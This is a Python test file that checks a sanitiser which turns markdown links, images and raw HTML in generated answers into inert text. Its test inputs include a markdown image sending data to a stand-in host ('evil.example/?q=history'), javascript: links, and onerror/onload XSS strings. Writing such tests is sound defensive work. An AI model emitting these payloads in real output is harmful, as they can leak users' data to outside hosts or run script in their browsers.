"""Nothing of an answer fetches, links or runs."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from nodes.citations.inert import sanitise

HOSTILE = [
    "![x](http://evil.example/?q=history)",
    "[t](http://evil.example)",
    "![](//evil.example/x.png)",
    "<http://evil.example>",
    "[a](javascript:alert(1))",
    "[a](<http://evil.example/a b>)",
    '[a](http://evil.example "t")',
    "[[a](http://b)](http://c)",
    "![a\nb](http://c)",
    "[x]: http://evil.example\n\n[x]",
    "![x][y]\n\n[y]: http://evil.example",
    "[a](\nhttp://e)",
    "[a\\]](http://e)",
    '![a](http://e "x\ny")',
    "![`a`](http://e)",
    "[a](`b`http://x)",
    "> [r]: http://e\n\n[r]",
    "- [r]: http://e\n\n[r]",
    "1. [r]: /x\n\n![r]",
]


def rendered(text: str) -> str:
    return MarkdownIt("commonmark", {"html": True}).render(text)


@pytest.mark.parametrize("text", HOSTILE)
def test_s02_images_and_links_become_text(text: str) -> None:
    shown = rendered(sanitise(text))
    assert "<img" not in shown
    assert "<a " not in shown
    # Left alone it would have been live; only a script's address is refused by this renderer itself.
    assert "<img" in rendered(text) or "<a " in rendered(text) or "javascript" in text


def test_s02_the_address_stays_readable() -> None:
    assert sanitise("![x](http://evil.example/?q=1)") == "x (`http://evil.example/?q=1`)"
    assert sanitise("官网是https://a.example/c。") == "官网是`https://a.example/c`。"


@pytest.mark.parametrize(
    "text", ["<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<script>x</script>", "<!-- x -->", "<a\nhref=x>"]
)
def test_s03_html_is_inert_outside_code(text: str) -> None:
    assert "<" not in sanitise(text)


def test_s03_code_stays_as_it_is() -> None:
    code = "`<b>` 和\n\n```html\n<img src=x>\n[a](http://b)\n```"
    assert sanitise(code) == code
    assert sanitise("1 < 2") == "1 < 2"


@given(
    st.lists(
        st.sampled_from(["[", "]", "(", ")", "!", "http://e", "<", ">", "`", "a", " ", "\n", ":", "x", '"']),
        max_size=25,
    ).map("".join)
)
def test_s02_no_mixture_renders_as_a_link_or_image(text: str) -> None:
    shown = rendered(sanitise(text))
    assert "<img" not in shown
    assert "<a " not in shown
